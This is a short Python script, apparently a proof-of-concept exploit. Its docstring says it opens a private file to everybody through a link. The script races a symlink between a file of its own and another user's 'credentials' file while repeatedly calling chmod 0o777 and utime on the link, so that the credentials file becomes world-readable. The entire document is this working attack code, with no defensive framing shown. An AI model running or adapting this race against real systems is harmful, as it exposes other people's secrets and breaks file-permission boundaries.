"""Open a private file to everybody by a link that leads to a file of one's own when it is looked at."""

import contextlib
import json
import os
import sys
import threading

theirs = json.loads(sys.argv[1])["home"] + "/credentials"
own, link = os.path.abspath("own"), os.path.abspath("link")
open(own, "w").close()
os.symlink(own, link)
ended = threading.Event()


def swap() -> None:
    for _ in range(200):
        for path in (own, theirs):
            os.symlink(path, f"{link}-new")
            os.rename(f"{link}-new", link)
    ended.set()


swapping = threading.Thread(target=swap)
swapping.start()
while not ended.is_set():
    with contextlib.suppress(OSError):
        os.chmod(link, 0o777)
    with contextlib.suppress(OSError):
        os.utime(link, (1, 1))
swapping.join()
